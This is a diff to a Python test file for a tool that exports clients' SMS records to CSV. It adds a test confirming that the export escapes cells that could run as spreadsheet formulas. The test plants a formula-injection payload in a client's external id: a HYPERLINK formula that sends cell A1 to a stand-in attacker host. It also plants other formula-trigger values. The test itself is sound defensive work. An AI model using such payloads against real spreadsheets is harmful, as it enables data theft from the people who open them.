@@ -267,7 +267,7 @@ def test_one_clients_texts_export_as_csv_oldest_first(runner, texts):
         "sid": "SM2",
         "created_at": "2025-03-04T15:02:00+00:00",
         "client_external_id": "DEMO-1001",
-        "phone": ALEX,
+        "phone": "'" + ALEX,  # a spreadsheet shows +1… as text, not the number 1312…
         "encoding": "GSM-7",
         "segments": "1",
         "message_key": "sms.inbox.ack",
@@ -292,6 +292,29 @@ def test_everyones_texts_export_to_a_file_without_unmatched_numbers(runner, text
     rows = json.loads(out.read_text(encoding="utf-8"))
     assert [r["sid"] for r in rows] == ["SM1", "SM2", "SM3"]
     assert rows[0]["body"] == '=HYPERLINK("http://x")'  # only CSV guards against formulas
+
+
+def test_no_csv_column_can_run_as_a_spreadsheet_formula(runner, texts):
+    alex = client_by_id(texts, "DEMO-1001")
+    alex.external_id = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    texts.execute(
+        Message.__table__.update()
+        .where(Message.twilio_sid == "SM2")
+        .values(message_key="@SUM(1)", error_code="-2+3", status="\tdelivered")
+    )
+    texts.commit()
+    result = export(runner, "--client", ALEX)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows[0]["body"] == '\'=HYPERLINK("http://x")'
+    assert rows[0]["client_external_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (rows[1]["message_key"], rows[1]["error_code"], rows[1]["status"]) == (
+        "'@SUM(1)",
+        "'-2+3",
+        "'\tdelivered",
+    )
+    formula = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula)]
 
 
 def test_an_unknown_or_malformed_client_phone_is_a_clear_error(runner, texts):
